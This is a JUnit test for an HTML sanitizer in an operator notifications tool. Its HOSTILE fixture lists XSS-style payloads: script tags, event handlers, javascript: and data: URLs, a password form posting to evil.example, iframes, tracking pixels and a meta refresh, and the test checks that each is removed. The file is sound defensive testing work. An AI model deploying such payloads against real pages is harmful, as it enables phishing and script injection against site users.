package org.opsdesk.notifications.templates;

import static org.assertj.core.api.Assertions.assertThat;

import org.junit.jupiter.api.Test;

class OperatorHtmlTests {

    /** What an operator might paste, knowingly or not: every way HTML can act or call out. */
    static final String HOSTILE =
            """
            <script>alert('script')</script>
            <p onclick="alert('handler')" style="background:url(https://evil.example/css)">Dear <b>Ana</b>,</p>
            <a href="javascript:alert('link')">pay here</a> <a href="https://opsdesk.example/help">help</a>
            <a href="data:text/html;base64,PHNjcmlwdD4=">data</a>
            <form action="https://evil.example/phish"><input name="password"><button>Send</button></form>
            <iframe src="https://evil.example/frame"></iframe>
            <img src="https://tracker.example/pixel.gif" onerror="alert('img')">
            <link rel="stylesheet" href="https://evil.example/style.css">
            <style>body { background: url(https://evil.example/bg) }</style>
            <svg onload="alert('svg')"><use href="https://evil.example/x.svg"/></svg>
            <object data="https://evil.example/x.swf"></object><embed src="https://evil.example/y">
            <meta http-equiv="refresh" content="0;url=https://evil.example/">
            <ul><li>kept</li></ul>""";

    @Test
    void removesEverythingThatRunsOrLoadsAndKeepsTheFormattedText() {
        String html = OperatorHtml.sanitized(HOSTILE, "pt-BR", "Seu depósito <recusado>");

        assertThat(html.toLowerCase())
                .doesNotContain("<script", "alert(", "onclick", "onerror", "onload", "javascript:", "data:")
                .doesNotContain("<form", "<input", "<button", "<iframe", "<img", "<link", "<style", "<svg")
                .doesNotContain("<object", "<embed", "http-equiv", "style=\"background", "evil.example")
                .doesNotContain("tracker.example");
        assertThat(html)
                .startsWith("<!DOCTYPE html>\n<html lang=\"pt-BR\">")
                .contains("<title>Seu depósito &lt;recusado&gt;</title>")
                .contains("<p>Dear <b>Ana</b>,</p>")
                .contains("<a href=\"https://opsdesk.example/help\" rel=\"noopener noreferrer\">help</a>")
                .contains("<li>kept</li>");
    }
}
